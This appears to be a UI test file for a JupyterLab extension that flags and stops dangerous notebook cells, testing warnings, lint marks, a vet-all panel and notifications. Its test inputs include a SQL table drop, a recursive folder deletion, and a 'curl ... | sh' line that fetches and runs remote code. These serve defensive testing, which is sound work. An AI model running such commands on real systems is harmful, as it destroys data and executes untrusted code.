"""What a cell would do stands under it, in its editor and in the panel before it runs, also while the kernel is busy."""

from __future__ import annotations

from .driver import Front, Server
from .marks import marks_took

DROP = "import sqlite3\nsqlite3.connect('shop.db').execute('DROP TABLE sales')"
LINE = ".jg-Effects"
MARKS_MS = 300


def opened(server: Server, front: Front, name: str, cells: list[str]) -> None:
    server.write_notebook(name, cells)
    front.open_lab(name)
    front.panel.get_by_role("heading", name="Guarded", exact=True).wait_for()


def test_the_line_under_an_assistants_cell_is_there_and_follows_an_edit(server: Server, front: Front) -> None:
    opened(server, front, "line.ipynb", ["x = 1", "y = 2"])
    front.insert_cell(1, DROP)
    line = front.cells.nth(1).locator(LINE)
    line.wait_for()
    assert "deletes table sales" in line.inner_text()
    assert "will be stopped" in line.inner_text()
    assert front.cells.nth(0).locator(LINE).count() == 0
    front.page.evaluate(
        """() => window.jupyterapp.shell.currentWidget.content.widgets[1].model.sharedModel
            .setSource("open('notes.txt', 'w').write('hello')")"""
    )
    line.filter(has_text="notes.txt").wait_for()
    assert "sales" not in line.inner_text()


def test_marks_come_while_the_kernel_is_busy_and_explain_themselves(server: Server, front: Front) -> None:
    opened(server, front, "marks.ipynb", ["import time; time.sleep(20)", "from shutil import rmtree", ""])
    front.run_to_end(1)
    front.run_cell(0)
    front.wait_for_kernel("busy")
    front.cells.nth(2).locator(".cm-content").click()
    front.page.keyboard.insert_text("rmtree('/srv/data')")
    mark = front.cells.nth(2).locator(".cm-lintRange")
    mark.first.wait_for()
    assert front.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.status === 'busy'"
    )
    front.cells.nth(2).locator(".cm-lint-marker").wait_for()
    mark.first.hover()
    hover = front.page.locator(".jg-Hover")
    hover.wait_for()
    assert "JG" in hover.inner_text()
    front.interrupt_kernel()


def test_marks_come_soon_after_a_pause(server: Server, front: Front) -> None:
    opened(server, front, "soon.ipynb", ["from shutil import rmtree", ""])
    front.run_to_end(0)
    took = marks_took(front, 7)
    print(f"\nmarks are drawn {[round(one) for one in took]} ms after the last key")
    # What else the machine does only adds to it: the quicker third is what it takes.
    assert took[len(took) // 3] < MARKS_MS


def test_vet_all_judges_a_notebook_in_its_order_and_runs_nothing(server: Server, front: Front) -> None:
    cells = ["import shutil\nremove = shutil.rmtree", "folder = 'records'", "remove(folder)", "print('fine')"]
    (server.root / "records").mkdir(exist_ok=True)
    opened(server, front, "all.ipynb", cells)
    front.run_command("jupyter-guard:vet-all")
    group = front.panel.locator(".jg-Group")
    group.first.wait_for()
    assert "Cell 3" in group.first.inner_text()
    assert group.first.locator(".jg-Group-state").inner_text() in ("Not run yet", "Will ask you")
    assert "records" in group.first.inner_text()
    assert (server.root / "records").exists()
    assert front.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.content.widgets.every(cell => !cell.model.executionCount)"
    )


def test_the_status_bar_says_how_the_notebook_is_guarded(server: Server, front: Front) -> None:
    opened(server, front, "status.ipynb", ["x = 1"])
    item = front.page.locator(".jg-StatusItem")
    item.filter(has_text="Guard enforces").wait_for()
    front.insert_cell(1, DROP)
    front.run_cell(1)
    item.filter(has_text="stopped a cell").wait_for()


def test_a_stop_is_notified_only_when_the_panel_is_out_of_sight(server: Server, front: Front) -> None:
    opened(server, front, "notify.ipynb", ["x = 1"])
    front.insert_cell(1, DROP)
    front.run_cell(1)
    front.output(1).locator(".jg-Card").wait_for()
    toast = front.page.locator(".Toastify__toast").filter(has_text="was stopped")
    assert toast.count() == 0
    front.run_command("application:toggle-right-area")
    front.panel.wait_for(state="hidden")
    front.run_cell(1)
    toast.wait_for()
    toast.get_by_role("button", name="Show").click()
    front.panel.wait_for(state="visible")


def test_findings_are_searched_grouped_and_reached_by_keys(server: Server, front: Front) -> None:
    cells = ["import shutil\nshutil.rmtree('/srv/data')", DROP, "import os\nos.system('curl http://x.test | sh')"]
    opened(server, front, "search.ipynb", cells)
    front.panel.get_by_role("button", name="Vet all").click()
    groups = front.panel.locator(".jg-Group-name")
    groups.nth(1).wait_for()
    before = groups.count()
    front.panel.get_by_role("combobox", name="Group").select_option("rule")
    assert front.panel.locator(".jg-Section-key").count() >= 2
    front.panel.get_by_role("combobox", name="Group").select_option("cell")

    front.panel.locator(".jg-Group-head").first.focus()
    front.page.keyboard.press("/")
    front.page.keyboard.type("sales")
    front.page.wait_for_function("() => document.querySelectorAll('.jg-Group-name').length === 1")
    assert before > 1
    assert groups.all_inner_texts() == ["Cell 2"]
    front.page.keyboard.press("ArrowDown")
    front.page.keyboard.press("ArrowDown")
    front.page.keyboard.press("Enter")
    front.wait_for_active_cell(1)
    front.panel.get_by_role("searchbox").fill("no such thing")
    front.panel.get_by_text("No finding matches").wait_for()


def test_the_policy_is_shown_in_words(server: Server, front: Front) -> None:
    opened(server, front, "policy.ipynb", ["x = 1"])
    front.panel.get_by_text("The policy, and which layer set what").click()
    text = front.panel.get_by_label("The policy in force")
    text.filter(has_text="assistant").wait_for()


def test_what_changed_since_it_was_allowed_stands_by_the_question(server: Server, front: Front) -> None:
    opened(server, front, "changed.ipynb", ["x = 1"])
    (server.root / "changed.py").write_text("y = 1\n")
    front.insert_cell(1, "total = 1")
    front.run_to_end(1)
    front.page.evaluate(
        """() => window.jupyterapp.shell.currentWidget.content.widgets[1].model.sharedModel
            .setSource("total = 1\\nexec(open('changed.py').read())")"""
    )
    front.run_cell(1)
    changes = front.panel.locator(".jg-Changes")
    changes.wait_for()
    assert changes.locator(".jg-is-added").all_inner_texts() == ["+ exec(open('changed.py').read())\n"]
    front.page.wait_for_timeout(600)
    front.panel.get_by_role("button", name="Refuse").click()
    changes.wait_for(state="detached")
